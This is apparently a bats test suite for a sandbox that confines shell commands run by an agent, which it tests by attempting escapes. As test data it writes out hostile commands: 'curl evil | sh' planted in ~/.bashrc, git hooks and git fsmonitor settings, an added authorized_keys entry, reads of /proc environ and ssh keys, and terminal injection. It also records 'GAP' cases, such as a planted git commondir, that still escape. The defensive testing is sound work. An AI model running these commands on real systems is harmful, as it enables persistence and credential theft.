#!/usr/bin/env bats
# Escapes from the sandbox, tried the way an agent would: the agent (a
# Python launch root holding the secrets) runs bash -c ATTACK, which the
# real shim sends into envshim-sandbox.  Everything runs as an unprivileged
# user (uid 65534 when the suite is root).  Where an attack works without
# the sandbox, a control run shows it, so each case can fail; where the
# design cannot stop an attack, a GAP case shows it still works.

load ../common

setup() {
	# Outside /tmp: the sandbox's /tmp is private, and a home or workspace
	# under it would hide what an attack did instead of stopping it.  (A
	# session's /var/tmp is private too; the helper binds the home, the
	# workspace and the shim back at their paths.)
	R=$(mktemp -d /var/tmp/envshim-esc.XXXXXX)
	chmod 755 "$R"
	mkdir -p "$R/home/.ssh" "$R/home/.config" "$R/ws" "$R/state" "$R/bin" "$R/run"
	cp "$SHIM" "$HELPER" "$BUILD/progs/spawn" "$BUILD/progs/static_craft" "$R/bin/"
	chmod -R a+rX "$R/bin"
	SHIM=$R/bin/libenvshim.so
	echo 'PRIVATE KEY' >"$R/home/.ssh/id_ed25519"
	echo '# bashrc' >"$R/home/.bashrc"
	git init -q "$R/ws"
	if [ "$(id -u)" = 0 ]; then
		chown -R 65534:65534 "$R/home" "$R/ws" "$R/state" "$R/run"
	fi
	chmod 700 "$R/run"
	cd "$R/ws"
}

teardown() {
	[ -n "${BGPID:-}" ] && kill "$BGPID" 2>/dev/null
	[ -n "${P1:-}" ] && kill "$P1" "$P2" 2>/dev/null
	cd /
	rm -rf "$R"
}

# pol LINE...: the agent's policy file (owned by the agent's user).
pol() {
	printf '%s\n' "$@" >"$R/home/policy"
	chmod 644 "$R/home/policy"
	[ "$(id -u)" = 0 ] && chown 65534:65534 "$R/home/policy"
	POLICY=$R/home/policy
}

# sbx_agent ATTACK: the agent runs `bash -c ATTACK` with subprocess; the
# text AGENTPID in ATTACK becomes the agent's pid.
sbx_agent() {
	"${RUN_AS:-as_nobody}" env -i HOME="$R/home" PATH=/usr/local/bin:/usr/bin:/bin LANG=C.UTF-8 \
		XDG_STATE_HOME="$R/state" XDG_RUNTIME_DIR="$R/run" GITHUB_TOKEN="$GH" \
		SSH_AUTH_SOCK="$R/run/agent.sock" ${POLICY:+ENVSHIM_POLICY=$POLICY} \
		LD_PRELOAD="$SHIM" /usr/bin/python3 -c '
import os, subprocess, sys
attack = sys.argv[1].replace("AGENTPID", str(os.getpid()))
sys.exit(subprocess.run(["bash", "-c", attack]).returncode)' "$1"
}

# The same attack with no sandbox and no protect-self: the control.
open_agent() {
	pol 'sandbox off' 'protect-self no'
	sbx_agent "$1"
	unset POLICY
}

# listen KIND ADDR: a listener outside, as the unprivileged user, that
# answers "hello" to whoever connects.
listen() {
	local as=()
	[ "$(id -u)" = 0 ] && as=(setpriv --reuid=65534 --regid=65534 --clear-groups)
	# setpriv execs, so $! is the listener; no fd of bats' may stay open.
	"${as[@]}" /usr/bin/python3 -c '
import socket, sys
kind, addr = sys.argv[1], sys.argv[2]
if kind == "tcp":
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", int(addr)))
else:
    s = socket.socket(socket.AF_UNIX)
    s.bind("\0" + addr if kind == "abstract" else addr)
s.listen(8)
while True:
    c, _ = s.accept(); c.sendall(b"hello\n"); c.close()' "$1" "$2" \
		</dev/null >/dev/null 2>&1 3>&- &
	BGPID=$!
	local i
	for i in $(seq 50); do
		case $1 in
		tcp) python3 -c "import socket; socket.create_connection(('127.0.0.1', $2), 1)" 2>/dev/null && break ;;
		abstract) grep -q "@$2" /proc/net/unix && break ;;
		*) [ -S "$2" ] && break ;;
		esac
		sleep 0.1
	done
}

# A client the attack runs: prints what the listener said, or "blocked".
CONNECT='python3 -c "
import socket, sys
kind, addr = sys.argv[1], sys.argv[2]
try:
    if kind == \"tcp\":
        s = socket.create_connection((\"127.0.0.1\", int(addr)), 2)
    else:
        s = socket.socket(socket.AF_UNIX)
        s.connect(\"\\0\" + addr if kind == \"abstract\" else addr)
    print(s.recv(16).decode().strip())
except OSError as e:
    print(\"blocked\", e.errno)
"'

@test "the agent's /proc/PID/environ, cmdline and mem are out of reach (control: readable without the sandbox)" {
	local attack='
for f in environ mem; do
	if python3 -c "import sys; d = open(\"/proc/AGENTPID/$f\", \"rb\").read(1 << 20) if \"$f\" == \"environ\" else open(\"/proc/AGENTPID/$f\", \"rb\").read(1); print(\"read $f\")" 2>/dev/null
	then :; else echo "denied $f"; fi
done
python3 -c "
import glob
secret = \"ghp\" + \"_abcdefghij\"   # not spelt out: this text is in a cmdline
for f in glob.glob(\"/proc/[0-9]*/environ\") + glob.glob(\"/proc/[0-9]*/cmdline\"):
    try:
        if secret.encode() in open(f, \"rb\").read():
            print(\"found\", f)
    except OSError:
        pass"
kill -0 AGENTPID 2>/dev/null && echo "agent visible"
true'
	run open_agent "$attack"
	grep -qx 'read environ' <<<"$output"
	grep -qx 'agent visible' <<<"$output"
	run sbx_agent "$attack"
	[ "$status" -eq 0 ]
	grep -qx 'denied environ' <<<"$output"
	grep -qx 'denied mem' <<<"$output"
	! grep -q -e '^found' -e 'agent visible' -e '^read' <<<"$output"
}

@test "ptrace and process_vm_readv of the agent fail (control: the agent is visible without the sandbox)" {
	local attack='python3 -c "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pid = AGENTPID
r = libc.ptrace(0x4206, pid, None, None)   # PTRACE_SEIZE: no stop
print(\"seize\", r, os.strerror(ctypes.get_errno()))
class iov(ctypes.Structure):
    _fields_ = [(\"base\", ctypes.c_void_p), (\"len\", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(64)
local = iov(ctypes.addressof(buf), 64); remote = iov(0x400000, 64)
r = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
print(\"vm_readv\", r, os.strerror(ctypes.get_errno()))
# Every pid the sandbox can see, by what it runs.
for p in os.listdir(\"/proc\"):
    if p.isdigit():
        try: print(\"pid\", p, open(\"/proc/%s/comm\" % p).read().strip())
        except OSError: pass
"'
	run open_agent "$attack"
	grep -q 'pid [0-9]* python3' <<<"$output"
	run sbx_agent "$attack"
	[ "$status" -eq 0 ]
	grep -q '^seize -1 No such process' <<<"$output"
	grep -q '^vm_readv -1 No such process' <<<"$output"
	# Only the sandbox's own handful: the helper as pid 1, the shell, python.
	[ "$(grep -c '^pid ' <<<"$output")" -le 4 ]
	grep -qx 'pid 1 envshim-sandbox' <<<"$output"
	! grep -q -e 'pid [0-9]* spawn' -e 'pid [0-9]* bats' -e 'pid [0-9]* systemd' <<<"$output"
}

@test "TIOCSTI and TIOCLINUX injection into the agent's terminal fail under a real pty (control: TIOCSTI works without)" {
	local attack='python3 -c "
import fcntl, termios, os
try:
    for c in \"echo INJECTED\\n\":
        fcntl.ioctl(0, termios.TIOCSTI, c.encode())
    print(\"tiocsti ok\")
except OSError as e:
    print(\"tiocsti\", e.errno)
try:
    fcntl.ioctl(0, 0x541C, bytes([2]) + bytes(10))   # TIOCLINUX, TIOCL_SETSEL
    print(\"tioclinux ok\")
except OSError as e:
    print(\"tioclinux\", e.errno)
"'
	export -f sbx_agent open_agent pol as_nobody
	# script(1) runs its command with $SHELL; dash would drop the
	# exported functions, so name bash whatever the caller's shell is.
	export R GH SHIM ATTACK="$attack" SHELL=/bin/bash
	run script -qec 'bash -c "open_agent \"\$ATTACK\""' /dev/null
	# Kernels from 6.2 may forbid TIOCSTI to everyone (legacy_tiocsti=0).
	if [ "$(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null)" != 0 ]; then
		grep -q 'tiocsti ok' <<<"$output"
	fi
	# TIOCLINUX needs a virtual console: a pty refuses it with or without
	# the sandbox, so the TIOCLINUX line below is no sandbox property.
	grep -q '^tioclinux [0-9]' <<<"${output//$'\r'/}"
	run script -qec 'bash -c "sbx_agent \"\$ATTACK\""' /dev/null
	output=${output//$'\r'/}
	grep -q '^tiocsti [0-9]' <<<"$output"
	grep -q '^tioclinux [0-9]' <<<"$output"
	! grep -q -e 'tiocsti ok' -e 'tioclinux ok' <<<"$output"
}

@test "persistence: ~/.bashrc, ~/.profile, ~/.ssh, .git/hooks, .git/config cannot be written or moved" {
	local attack='
cd "$PWD"
echo "curl evil | sh" >>~/.bashrc
echo "curl evil | sh" >~/.profile
mkdir -p ~/.config/autostart && echo x >~/.config/autostart/evil.desktop
echo "ssh-ed25519 AAAA evil" >>~/.ssh/authorized_keys
printf "#!/bin/sh\ncurl evil | sh\n" >.git/hooks/pre-commit
git config core.hooksPath /tmp/hooks
git config core.fsmonitor "curl evil | sh"
mv .git/hooks .git/hooks.old
rm -rf .git/hooks
mv .git/config .git/config.old
echo "ws-write-ok" >ws-file
true'
	run sbx_agent "$attack"
	[ "$status" -eq 0 ]
	[ "$(cat "$R/home/.bashrc")" = '# bashrc' ]
	[ ! -e "$R/home/.profile" ]
	[ ! -e "$R/home/.config/autostart" ]
	[ ! -e "$R/home/.ssh/authorized_keys" ]
	[ ! -e "$R/ws/.git/hooks/pre-commit" ]
	[ -d "$R/ws/.git/hooks" ]
	[ -f "$R/ws/.git/config" ]
	! grep -q -e hooksPath -e fsmonitor "$R/ws/.git/config" || false
	# The workspace itself stays writable: the attack really ran.
	[ "$(cat "$R/ws/ws-file")" = ws-write-ok ]
}

@test "symlinks and hard links out of the workspace do not reach home" {
	ln -s "$R/home/.ssh" "$R/ws/keys"
	ln -s "$R/home" "$R/ws/myhome"
	local attack='
cd "$PWD"
cat keys/id_ed25519 2>&1 | sed "s/^/key: /"
echo evil >myhome/.bashrc 2>/dev/null && echo "wrote through symlink"
ln ~/.bashrc hard 2>/dev/null && { echo evil >>hard; echo "hard link made"; }
ln ~/.ssh/id_ed25519 hardkey 2>/dev/null && echo "key hard link made"
true'
	run sbx_agent "$attack"
	[ "$status" -eq 0 ]
	# The attack ran, and the links led nowhere useful: the key is an
	# empty file in its place (cat prints nothing, not even an error), and
	# the write through the symlink landed in the run's layer of the home.
	lacks '^key: '
	! grep -q 'PRIVATE KEY' <<<"$output" || false
	! grep -q 'hard link made' <<<"$output" || false
	[ "$(cat "$R/home/.bashrc")" = '# bashrc' ]
	# Control: without the sandbox the same links reach home.
	rm -f "$R/ws/hard" "$R/ws/hardkey"
	run open_agent "$attack"
	grep -qx 'key: PRIVATE KEY' <<<"$output"
	grep -qx 'wrote through symlink' <<<"$output"
}

@test "GAP: a symlink the sandbox plants in the workspace redirects the unsandboxed agent later" {
	run sbx_agent 'cd "$PWD"; ln -s ~/.bashrc NOTES.md'
	[ "$status" -eq 0 ]
	# The leak is real: the link outlives the sandbox and points out of it.
	[ "$(readlink "$R/ws/NOTES.md")" = "$R/home/.bashrc" ]
	# What covers it: nothing in envshim - the agent's own file tools must
	# not follow links out of the workspace.
	echo appended >>"$R/ws/NOTES.md"
	grep -qx appended "$R/home/.bashrc"
}

@test "GAP: a planted .git/commondir redirects git's config and hooks; 'ro .git' closes it" {
	git -C "$R/ws" commit -q --allow-empty -m init 2>/dev/null ||
		as_nobody git -C "$R/ws" -c user.email=a@b -c user.name=a commit -q --allow-empty -m init
	local attack='
cd "$PWD"
cp -r .git evil.git
printf "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"echo PWNED >&2; false\"\n" >evil.git/config
echo ../evil.git >.git/commondir && echo planted'
	run sbx_agent "$attack"
	[ "$status" -eq 0 ]
	grep -qx planted <<<"$output"
	# The leak is real: the agent's next git, outside, runs the command.
	run as_nobody env HOME="$R/home" git -C "$R/ws" status
	grep -q PWNED <<<"$output"
	# What covers it: 'ro .git' (the sandbox's git can still read).
	rm -rf "$R/ws/.git/commondir" "$R/ws/evil.git"
	pol 'ro .git'
	run sbx_agent "$attack; git status --short >/dev/null && echo git-reads"
	[ "$status" -eq 0 ]
	grep -qx git-reads <<<"$output"
	! grep -qx planted <<<"$output" || false
	[ ! -e "$R/ws/.git/commondir" ]
	run as_nobody env HOME="$R/home" git -C "$R/ws" status
	[ "$status" -eq 0 ]
	grep -q '^On branch' <<<"$output"
	! grep -q PWNED <<<"$output"
}

@test "unix sockets outside: ssh agent, D-Bus, docker-style path socket are unreachable" {
	listen unix "$R/run/agent.sock"
	P1=$BGPID
	listen unix "$R/run/bus"
	P2=$BGPID
	run sbx_agent "$CONNECT unix $R/run/agent.sock; $CONNECT unix $R/run/bus; echo sock=\$SSH_AUTH_SOCK"
	kill "$P1" "$P2"; P1=
	BGPID=
	[ "$status" -eq 0 ]
	! grep -qx hello <<<"$output" || false
	[ "$(grep -c '^blocked' <<<"$output")" -eq 2 ]
	grep -qx 'sock=' <<<"$output"
	# Control: the same socket answers from outside.
	rm -f "$R/run/bus"
	listen unix "$R/run/bus"
	run as_nobody env PATH=/usr/bin:/bin bash -c "$CONNECT unix $R/run/bus"
	[ "$output" = hello ]
}

@test "network off: an abstract socket and a loopback listener outside are unreachable" {
	listen abstract "envshim-esc-$$"
	P1=$BGPID
	listen tcp 47391
	P2=$BGPID
	pol 'network off'
	run sbx_agent "$CONNECT abstract envshim-esc-$$; $CONNECT tcp 47391"
	kill "$P1" "$P2"; P1=
	BGPID=
	[ "$status" -eq 0 ]
	! grep -qx hello <<<"$output" || false
	[ "$(grep -c '^blocked' <<<"$output")" -eq 2 ]
}

@test "network on (the default): abstract sockets outside are out of reach with Landlock, and a gap without it" {
	listen abstract "envshim-esc-$$"
	# Control: the listener answers a plain child of the agent.
	run as_nobody env PATH=/usr/bin:/bin bash -c "$CONNECT abstract envshim-esc-$$"
	[ "$output" = hello ]
	run sbx_agent "$CONNECT abstract envshim-esc-$$; $CONNECT abstract envshim-esc-$$"
	[ "$status" -eq 0 ]
	abi=$(python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(444, None, 0, 1))')
	if [ "$abi" -ge 6 ]; then
		# Landlock scopes them to the sandbox (EPERM), both times.
		[ "$(grep -cx 'blocked 1' <<<"$output")" -eq 2 ]
	else
		# GAP on Linux < 6.12: abstract sockets belong to the network
		# namespace, so X11's @/tmp/.X11-unix/X0 and the like answer.
		# What covers it there: 'network off' (previous test).
		[ "$(grep -cx hello <<<"$output")" -eq 2 ]
	fi
}

@test "signals: a pidfd of an outside process handed to a shell does not reach the sandbox (control: it signals outside)" {
	cat >"$R/ws/sig.py" <<'EOF'
import signal, sys
try:
    signal.pidfd_send_signal(int(sys.argv[1]), signal.SIGTERM)
    print("signal sent")
except OSError as e:
    print("signal", e.errno)
EOF
	chmod 644 "$R/ws/sig.py"
	# The agent holds a pidfd of a process of its own and lets it leak
	# into a shell (sandboxed) and into python directly (the control).
	run as_nobody env -i HOME="$R/home" PATH=/usr/bin:/bin XDG_STATE_HOME="$R/state" \
		LD_PRELOAD="$SHIM" python3 -c '
import os, subprocess
def victim():
    v = subprocess.Popen(["/usr/bin/sleep", "30"])
    fd = os.pidfd_open(v.pid)
    os.set_inheritable(fd, True)
    return v, fd
v, fd = victim()
subprocess.run(["bash", "-c", "echo -n \"shell: \"; python3 sig.py %d" % fd], pass_fds=(fd,))
print("victim", "alive" if v.poll() is None else "killed", flush=True)
v.kill(); v.wait()
v, fd = victim()
subprocess.run(["/usr/bin/python3", "sig.py", str(fd)], pass_fds=(fd,))
v.wait(5)
print("victim killed")'
	[ "$status" -eq 0 ]
	[ "${lines[2]}" = "signal sent" ]
	[ "${lines[3]}" = "victim killed" ]
	# The descriptor no longer crosses into the sandbox (EBADF: only 0-2
	# do); were it there, the pid namespace would refuse it (EINVAL) and
	# Landlock's signal scope (Linux 6.12+) too (EPERM).
	[ "${lines[0]}" = "shell: signal 9" ]
	[ "${lines[1]}" = "victim alive" ]
}

@test "keyrings: a key in the agent's session keyring cannot be read from the sandbox (control: a plain child can)" {
	cat >"$R/ws/keys.py" <<'EOF'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
# KEYCTL_SEARCH the session keyring (-3) for the agent's key, then KEYCTL_READ.
kid = libc.syscall(250, 10, -3, b"user", b"envshim-esc", 0)
if kid < 0:
    print("search", os.strerror(ctypes.get_errno()))
else:
    buf = ctypes.create_string_buffer(64)
    n = libc.syscall(250, 11, kid, buf, 64)
    print("read", n, buf.value.decode(errors="replace"))
EOF
	chmod 644 "$R/ws/keys.py"
	# The agent keeps a credential in a session keyring of its own, then
	# runs the probe in a shell (sandboxed) and directly (the control).
	run as_nobody env -i HOME="$R/home" PATH=/usr/bin:/bin XDG_STATE_HOME="$R/state" \
		LD_PRELOAD="$SHIM" python3 -c '
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(250, 1, None)                  # KEYCTL_JOIN_SESSION_KEYRING, anonymous
k = libc.syscall(248, b"user", b"envshim-esc", b"hunter2key", 10, -3)
assert k > 0, ctypes.get_errno()
subprocess.run(["bash", "-c", "echo -n \"shell: \"; python3 keys.py"])
subprocess.run(["/usr/bin/python3", "keys.py"])'
	[ "$status" -eq 0 ]
	grep -q '^read [0-9]* hunter2key$' <<<"${lines[1]}"
	# the probe ran inside, and its search found nothing
	grep -q '^shell: search ' <<<"${lines[0]}"
	! grep -q hunter2key <<<"${lines[0]}"
}

@test "mounting and a nested user namespace cannot undo the read-only root or the hidden ~/.ssh" {
	# unshare runs without the shim (through a static program that drops
	# LD_PRELOAD), so it is dumpable and may map itself in a nested userns.
	local attack='
mount -t tmpfs none "$HOME" 2>/dev/null && echo "mounted"
BIN/static_craft -u LD_PRELOAD -- /usr/bin/unshare -Urm sh -c "
	echo nested-userns
	mount -o remount,rw / 2>/dev/null && echo remounted-root
	mount -o remount,rw,bind \"\$HOME\" 2>/dev/null && echo remounted-home
	umount \"\$HOME/.ssh\" 2>/dev/null && echo unmounted-ssh
	umount -l \"\$HOME/.ssh\" 2>/dev/null && echo unmounted-ssh
	cat \"\$HOME/.ssh/id_ed25519\" 2>/dev/null
	mount -t tmpfs none /mnt 2>/dev/null && echo tmpfs-ok
	echo evil >>\"\$HOME/.bashrc\" 2>/dev/null && echo wrote-bashrc
	true"
BIN/static_craft -u LD_PRELOAD -- /usr/bin/unshare -Urpf --mount-proc sh -c "ls /proc | grep -c \"^[0-9]\"" | sed "s/^/nested pids: /"
true'
	# a session's /var/tmp is its own: the tool goes where shells see it
	cp "$R/bin/static_craft" "$R/ws/"
	run sbx_agent "${attack//BIN/$R/ws}"
	[ "$status" -eq 0 ]
	# The nested namespace is real (the test can fail) ...
	grep -qx nested-userns <<<"$output"
	grep -qx tmpfs-ok <<<"$output"
	# ... and gains nothing over the sandbox's own mounts.  The home is
	# the run's writable layer already (remounting it, writing there is
	# allowed); the real file is what must stay.
	! grep -q -e '^mounted' -e remounted-root -e unmounted -e 'PRIVATE KEY' <<<"$output" || false
	[ "$(cat "$R/home/.bashrc")" = '# bashrc' ]
	grep -q '^nested pids: [0-9]$' <<<"$output"
}

# nested_rw: a shell plants a link inside one writable path where another
# rw path of the policy will be; the next shell must not get the link's
# target bound writable.
nested_rw() {
	pol 'rw ~/a' 'rw ~/a/b'
	mkdir -p "$R/home/a"
	if [ "${RUN_AS:-}" = command ]; then
		chown -R "$(id -u):$(id -g)" "$R/home"
	elif [ "$(id -u)" = 0 ]; then
		chown -R 65534:65534 "$R/home"
	fi
	# control: the policy's first rw path is the real one, writable
	run sbx_agent 'echo x >~/a/x && ln -s ~/.ssh ~/a/b && echo planted'
	[ "$status" -eq 0 ]
	[ "$output" = planted ]
	[ "$(cat "$R/home/a/x")" = x ]
	run sbx_agent 'echo "ssh-ed25519 AAAA evil" >>~/a/b/authorized_keys; echo "curl evil" >>~/.ssh/rc; cat ~/a/b/id_ed25519; echo ran'
	[ "$status" -eq 0 ]
	[ "${lines[-1]}" = ran ]
	lacks 'PRIVATE KEY'
	[ ! -e "$R/home/.ssh/authorized_keys" ]
	[ ! -e "$R/home/.ssh/rc" ]
}

@test "a link planted in a writable path where another rw path goes binds nothing else writable (nobody)" {
	nested_rw
}

@test "a link planted in a writable path where another rw path goes binds nothing else writable (root)" {
	[ "$(id -u)" = 0 ] && chown -R 0:0 "$R/home" "$R/ws" "$R/state" "$R/run"
	RUN_AS=command nested_rw
}
